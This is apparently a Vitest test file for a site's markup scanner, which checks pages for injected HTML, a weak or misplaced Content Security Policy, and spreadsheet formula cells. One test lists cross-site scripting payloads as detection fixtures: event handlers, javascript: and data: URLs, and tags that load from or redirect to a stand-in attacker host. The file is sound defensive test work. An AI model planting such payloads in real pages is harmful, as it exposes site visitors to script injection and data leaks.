import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { isFormulaCell, parseCsp, parseCsv, scanPage } from './markup-scan.ts';

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const OWN_SCRIPT = 'window.theme = 1;';
const OWN_STYLE = '@page { @top-left { content: "Frontline Brief"; } @top-right { content: "Talks \\3c b\\3e "; } }';
const POLICY =
	`default-src 'self'; object-src 'none'; base-uri 'self'; script-src 'self' ${hash(OWN_SCRIPT)}; ` +
	`style-src 'self' ${hash(OWN_STYLE)}; style-src-attr 'unsafe-inline'`;

/** A page shaped like the site's: charset, policy, then the rest of the head, then `body`. */
const page = (body: string, head = '') =>
	`<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="content-security-policy" ` +
	`content="${POLICY}">${head}<title>T</title><script>${OWN_SCRIPT}</script><style ` +
	`data-fb-running-header>${OWN_STYLE}</style><script type="module" src="/_astro/page.js"></script>` +
	`</head><body>${body}</body></html>`;

describe('scanPage', () => {
	it("finds nothing on a page holding only the site's own scripts, styles and escaped text", () => {
		expect(
			scanPage(
				page(
					'<h1>Talks &lt;script&gt; stall</h1><svg style="--sl-icon-size: ' +
						'1em;"><title>&lt;b&gt;</title></svg><a href="/x/">x</a><img src="data:image/svg+xml,%3Csvg%3E" ' +
						'alt="">',
				),
				{ base: '/' },
			),
		).toEqual([]);
	});

	it('finds every kind of markup that escaped from article text', () => {
		const injected = [
			'<script>window.pwned=1</script>',
			'<script src="https://attacker.example/x.js"></script>',
			'<img src=x onerror="alert(1)">',
			'<svg onload=alert(1)></svg>',
			'<a href=" java\tscript:alert(1)">x</a>',
			'<form action="javascript:alert(1)"></form>',
			'<iframe src="/"></iframe>',
			'<object data="x"></object>',
			'<base href="https://attacker.example/">',
			'<style>body { display: none }</style>',
			'<div style="background: url(https://attacker.example/?c=1)">x</div>',
			'<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
			'<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
			'<a href="data:text/html,<script>alert(1)</script>">x</a>',
			'<template><script>alert(1)</script></template>',
		];
		const problems = scanPage(page(injected.join('')), { base: '/' });
		expect(problems).toEqual([
			'an inline script the policy does not allow: "window.pwned=1"',
			'a script from "https://attacker.example/x.js", not one of the site\'s bundles',
			'an event handler <img> onerror="alert(1)"',
			'an event handler <svg> onload="alert(1)"',
			'a javascript: URL in <a> href=" java\\tscript:alert(1)"',
			'a javascript: URL in <form> action="javascript:alert(1)"',
			'a <iframe> element',
			'a <object> element',
			'a <base> element',
			'an inline style the policy does not allow: "body { display: none }"',
			'a style attribute that loads or evaluates: <div> style="background: url(https://attacker.example/?c=1)"',
			'a <meta http-equiv="refresh">',
			'an SVG <animate> that rewrites a link',
			'a data: URL in <a> href="data:text/html,<script>alert(1)</script>"',
			'an inline script the policy does not allow: "alert(1)"',
		]);
	});

	it('finds a title that broke out of <title> before the policy, and a policy that is not first', () => {
		const late =
			`<!doctype html><html><head><meta charset="utf-8"><title>T</title><meta ` +
			`http-equiv="content-security-policy" content="${POLICY}"></head><body></body></html>`;
		expect(scanPage(late, { base: '/' })).toEqual(['the Content Security Policy is not the first element of <head>']);
		const broken = page('', `<title>Talks </title><script>window.pwned=1</script>`);
		expect(scanPage(broken, { base: '/' })).toContain('an inline script the policy does not allow: "window.pwned=1"');
	});

	it('finds a missing or weakened policy', () => {
		const weak = `<!doctype html><html><head><meta http-equiv="content-security-policy" content="script-src 'self' 'unsafe-inline'"></head><body></body></html>`;
		expect(scanPage(weak, { base: '/' })).toEqual([
			"script-src allows 'unsafe-inline'",
			"object-src is not 'none'",
			"base-uri is not 'self'",
		]);
		expect(scanPage('<html><head></head><body></body></html>', { base: '/' })).toContain(
			'0 Content Security Policy <meta> elements, not 1',
		);
	});

	it('finds a running header whose CSS does more than print strings', () => {
		const css = '@page { @top-right { content: "x"; } } body { display: none }';
		const html = page('', `<style data-fb-running-header>${css}</style>`).replace(
			"style-src 'self'",
			`style-src 'self' ${hash(css)}`,
		);
		expect(scanPage(html, { base: '/' })).toEqual([
			`a running header whose CSS is more than @page strings: ${JSON.stringify(css)}`,
		]);
	});
});

describe('parseCsp', () => {
	it('reads directives and their sources; the first of a repeated directive wins, as in browsers', () => {
		const csp = parseCsp("default-src 'self';img-src 'self' data:; script-src 'none'; script-src *");
		expect(csp.get('img-src')).toEqual(["'self'", 'data:']);
		expect(csp.get('script-src')).toEqual(["'none'"]);
	});
});

describe('parseCsv and isFormulaCell', () => {
	it('reads quoted cells with commas, doubled quotes and line breaks', () => {
		expect(parseCsv('a,b\n"x, ""y""","line\nbreak"\n')).toEqual([
			['a', 'b'],
			['x, "y"', 'line\nbreak'],
		]);
	});
	it('calls a cell a formula when a spreadsheet would run it, not a number or a guarded cell', () => {
		expect(['=1+1', '+A1', '-A1', '@SUM(A1)', '\t=1', '\r=1'].map(isFormulaCell)).toEqual([
			true,
			true,
			true,
			true,
			true,
			true,
		]);
		expect(['-12', '+3.5', "'=1+1", 'Kyiv', ''].map(isFormulaCell)).toEqual([false, false, false, false, false]);
	});
});
